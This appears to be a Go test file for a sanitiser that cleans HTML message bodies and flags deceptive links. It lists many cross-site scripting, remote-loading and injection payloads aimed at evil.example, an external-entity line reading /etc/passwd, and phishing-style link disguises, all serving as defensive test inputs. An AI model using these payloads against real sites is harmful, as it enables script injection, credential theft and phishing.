package timeline

import (
	"encoding/base64"
	"fmt"
	"slices"
	"strings"
	"testing"
	"unicode/utf8"

	nethtml "golang.org/x/net/html"

	"seneschal/internal/graph"
	"seneschal/internal/store"
)

// formatting is every element that a shown body may have: written a second time, by hand.
var formatting = strings.Fields(`p div span br hr b strong i em u s sub sup small blockquote pre code ul ol li dl dt dd h1 h2 h3 h4 h5 h6 table thead tbody tfoot tr td th caption`)

// harmful says what of a body would load, run, fetch or send something, as a browser would understand it; "" for nothing.
func harmful(t testing.TB, shown string) string {
	t.Helper()
	const fence = "<hr>the page goes on"
	tree, err := nethtml.Parse(strings.NewReader("<main><div>" + shown + "</div>" + fence + "</main>"))
	if err != nil {
		return err.Error()
	}
	if page := tree.LastChild.LastChild.FirstChild; page.NextSibling != nil || page.Data != "main" || page.FirstChild.Data != "div" || page.FirstChild.NextSibling == nil || page.FirstChild.NextSibling.Data != "hr" {
		return "an end of the box it is shown in"
	}
	for n := range tree.LastChild.LastChild.FirstChild.FirstChild.Descendants() {
		switch n.Type {
		case nethtml.CommentNode, nethtml.DoctypeNode:
			return "a comment or declaration"
		case nethtml.ElementNode:
			if !slices.Contains(formatting, n.Data) || n.Namespace != "" {
				return "an element " + n.Namespace + " " + n.Data
			}
			for _, a := range n.Attr {
				if a.Key != "colspan" && a.Key != "rowspan" || strings.Trim(a.Val, "0123456789+-") != "" {
					return "an attribute " + a.Key + " of " + n.Data
				}
			}
		}
	}
	return ""
}

// Every body says "Hello" and tries something; the reader sees the word, and nothing else happens.
var hostile = map[string]string{
	"a script":                       `<p>Hello</p><script>alert(1)</script><script src=//evil.example/x.js></script>`,
	"a script in pieces":             `<p>Hello</p><scr<script>ipt>alert(1)</scr</script>ipt>`,
	"event handlers":                 `<p onclick="alert(1)" ONMOUSEOVER=alert(2)>Hello</p><body onload=alert(3)><svg/onload=alert(4)>`,
	"a javascript link":              `<a href="java&#x09;script:alert(1)">Hello</a><a href="JaVaScRiPt&colon;alert(1)">x</a>`,
	"a data link":                    `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">Hello</a>`,
	"a link of Visual Basic":         `<a href="vbscript:msgbox(1)">Hello</a>`,
	"remote images":                  `<p>Hello</p><img src="https://evil.example/pixel.gif"><img srcset="//evil.example/2x 2x"><picture><source srcset="https://evil.example/a"></picture><input type=image src=//evil.example/b>`,
	"an image that fails":            `<p>Hello</p><img src=x onerror=alert(1)>`,
	"a background":                   `<table background="https://evil.example/a"><tr><td>Hello</td></tr></table>`,
	"style that loads":               `<style>@import url(//evil.example/a.css); p{background:url(//evil.example/b)} @font-face{font-family:x;src:url(//evil.example/c)}</style><p style="background:url('//evil.example/d')">Hello</p>`,
	"a style sheet":                  `<link rel=stylesheet href=//evil.example/a.css><link rel=prefetch href=//evil.example/b><p>Hello</p>`,
	"style escapes":                  `<p style="width:expression(alert(1));b\61ckground:u\72l(//evil.example)">Hello</p>`,
	"frames":                         `<p>Hello</p><iframe src=//evil.example></iframe><frameset><frame src=//evil.example></frameset><object data=//evil.example></object><embed src=//evil.example>`,
	"a frame of its own":             `<p>Hello</p><iframe srcdoc="<script>alert(1)</script>"></iframe>`,
	"a form":                         `<form action=//evil.example><p>Hello</p><input name=password><button formaction=//evil.example>go</button></form>`,
	"a refresh":                      `<meta http-equiv=refresh content="0;url=//evil.example"><p>Hello</p>`,
	"another base":                   `<base href=//evil.example><p>Hello</p><a href=x>x</a>`,
	"drawings":                       `<p>Hello</p><svg><script>alert(1)</script><a xlink:href="javascript:alert(1)"><use href="//evil.example/a.svg#b"/></a><image href=//evil.example /><foreignObject><iframe src=//evil.example></foreignObject></svg>`,
	"formulas":                       `<p>Hello</p><math><mi href="javascript:alert(1)">x</mi><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
	"a drawing with a style":         `<p>Hello</p><svg><style><img src=x onerror=alert(1)></style></svg>`,
	"a text area that ends":          `<p>Hello</p><textarea><img title="</textarea><img src=x onerror=alert(1)>">`,
	"a title that ends":              `<title><img title="</title><img src=x onerror=alert(1)>"></title><p>Hello</p>`,
	"noscript":                       `<p>Hello</p><noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
	"a template":                     `<p>Hello</p><template><script>alert(1)</script></template>`,
	"media":                          `<p>Hello</p><video src=//evil.example poster=//evil.example></video><audio src=//evil.example autoplay><track src=//evil.example></audio>`,
	"a ping":                         `<a href="https://good.example" ping="//evil.example">Hello</a>`,
	"comments":                       `<p>Hello</p><!--[if gte IE 4]><script>alert(1)</script><![endif]--><!--><script>alert(1)</script>-->`,
	"a declaration":                  `<!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd">]><?xml-stylesheet href="//evil.example"?><p>Hello &x;</p>`,
	"entities":                       `<p>Hello &lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62; &amp;lt;b&amp;gt;</p>`,
	"a zero byte":                    "<p>Hello</p><scr\x00ipt>alert(1)</scr\x00ipt><im\x00g src=x onerror=alert(1)>",
	"bytes that are no text":         "<p>Hello\xff\xfe\xc0\xbc</p>\xc0\xbcscript>alert(1)</script>",
	"attributes without end":         `<p>Hello</p><img src="x` + strings.Repeat(" a", 5000),
	"depth":                          strings.Repeat("<div>", 20_000) + "Hello",
	"a name for the page's own code": `<p id=main name=csrf class=chip data-live=on hx-get=//evil.example>Hello</p>`,
	"an end of the page's own box":   `Hello</p></div></div></section></main></body></html><h1>Sign in again</h1>`,
	"a table without end":            `<p>Hello</p><table><tr><td>`,
	"an import":                      `<import namespace=t implementation="#default#time2"><p>Hello</p><xml id=x></xml><t:set attributename="innerHTML">`,
}

func TestHostileBodiesAreTextAlone(t *testing.T) {
	for name, content := range hostile {
		t.Run(name, func(t *testing.T) {
			shown, _ := sanitise(graph.ItemBody{ContentType: "html", Content: content})
			if why := harmful(t, shown); why != "" {
				t.Errorf("%s: %.500q", why, shown)
			}
			if !strings.Contains(shown, "Hello") {
				t.Errorf("the text is gone: %.500q", shown)
			}
			plain, links := sanitise(graph.ItemBody{ContentType: "text", Content: content})
			if why := harmful(t, plain); why != "" || len(links) != 0 {
				t.Errorf("as plain text: %s, %v: %.500q", why, links, plain)
			}
		})
	}
}

func TestLinksAreToldHonestly(t *testing.T) {
	for _, tt := range []struct {
		name, body string
		want       []string // text -> host, ! where the text names another
	}{
		{"a word", `<a href="https://portal.example.com/x">Click here</a>`, []string{"Click here -> portal.example.com"}},
		{"its own name", `<a href="https://www.example.com/">example.com</a>`, []string{"example.com -> www.example.com"}},
		{"another name", `<a href="https://evil.example/">https://bank.com/login</a>`, []string{"https://bank.com/login -> evil.example !"}},
		{"another name among words", `<a href="https://evil.example/">Sign in at bank.com now</a>`, []string{"Sign in at bank.com now -> evil.example !"}},
		{"another name in brackets", `<a href="https://evil.example/">(www.bank.test)</a>`, []string{"(www.bank.test) -> evil.example !"}},
		{"a name before the at", `<a href="https://bank.com@evil.example/">bank.com</a>`, []string{"bank.com -> evil.example !"}},
		{"a name as the beginning of another", `<a href="https://bank.com.evil.example/">bank.com</a>`, []string{"bank.com -> bank.com.evil.example !"}},
		{"letters that look alike", `<a href="https://xn--bnk-6cd.com/">bаnk.com</a>`, []string{"bаnk.com -> xn--bnk-6cd.com"}},
		{"the same in plain letters", `<a href="https://xn--bnk-6cd.com/">bank.com</a>`, []string{"bank.com -> xn--bnk-6cd.com !"}},
		{"a number", `<a href="https://evil.example/">http://192.0.2.7/</a>`, []string{"http://192.0.2.7/ -> evil.example !"}},
		{"a file", `<a href="https://files.example/9">report.pdf</a>`, []string{"report.pdf -> files.example"}},
		{"turned round", "<a href=\"https://evil.example/\">\u202Emoc.knab\u202C</a>", []string{"moc.knab -> evil.example"}},
		{"not closed", `<a href="https://evil.example/">bank.com<a href="https://two.example/">two`, []string{"bank.com -> evil.example !", "two -> two.example"}},
		{"in pieces", `<a href="https://evil.example/">ba<b>nk</b>.com</a>`, []string{"bank.com -> evil.example !"}},
		{"an image", `<a href="https://evil.example/"><img src="x"></a>`, []string{" -> evil.example"}},
		{"an address", `<a href="mailto:nora@northwind.example">nora@northwind.example</a>`, []string{"nora@northwind.example -> "}},
		{"no link at all", `<a href="javascript:alert(1)">x</a><a>y</a><a href="file:///etc/passwd">z</a>`, nil},
	} {
		t.Run(tt.name, func(t *testing.T) {
			_, links := sanitise(graph.ItemBody{ContentType: "html", Content: tt.body})
			var got []string
			for _, l := range links {
				line := l.Text + " -> " + l.Host
				if !l.Honest {
					line += " !"
				}
				got = append(got, line)
			}
			if !slices.Equal(got, tt.want) {
				t.Errorf("got %q, want %q", got, tt.want)
			}
		})
	}
}

func FuzzSanitise(f *testing.F) {
	for _, content := range hostile {
		if len(content) < 2000 {
			f.Add(content)
		}
	}
	f.Fuzz(func(t *testing.T, content string) {
		shown, links := sanitise(graph.ItemBody{ContentType: "html", Content: content})
		if why := harmful(t, shown); why != "" {
			t.Errorf("%s: %q", why, shown)
		}
		if again, more := sanitise(graph.ItemBody{ContentType: "html", Content: shown}); again != shown || len(more) != 0 {
			t.Errorf("%q became %q", shown, again)
		}
		for _, l := range links {
			if !utf8.ValidString(l.Text+l.Target) || strings.ContainsAny(l.Text, "\x00\n\u202e") {
				t.Errorf("a link that cannot be shown: %+q", l.Text+" "+l.Target)
			}
		}
	})
}

func FuzzCursor(f *testing.F) {
	f.Add(base64.RawURLEncoding.EncodeToString([]byte("1763700000000|01kahxyz0123456789abcdefgh")))
	f.Add(base64.RawURLEncoding.EncodeToString([]byte("-1|\x00")))
	f.Add("%%%")
	f.Fuzz(func(t *testing.T, cursor string) {
		at, id, err := readCursor(cursor)
		if err != nil {
			return
		}
		if !store.IsID(id) {
			t.Errorf("%q is no id", id)
		}
		same := base64.RawURLEncoding.EncodeToString([]byte(fmt.Sprint(at, afterMark, id)))
		if again, other, err := readCursor(same); err != nil || again != at || other != id {
			t.Errorf("%q is read as %d %q, and written as %q", cursor, at, id, same)
		}
	})
}
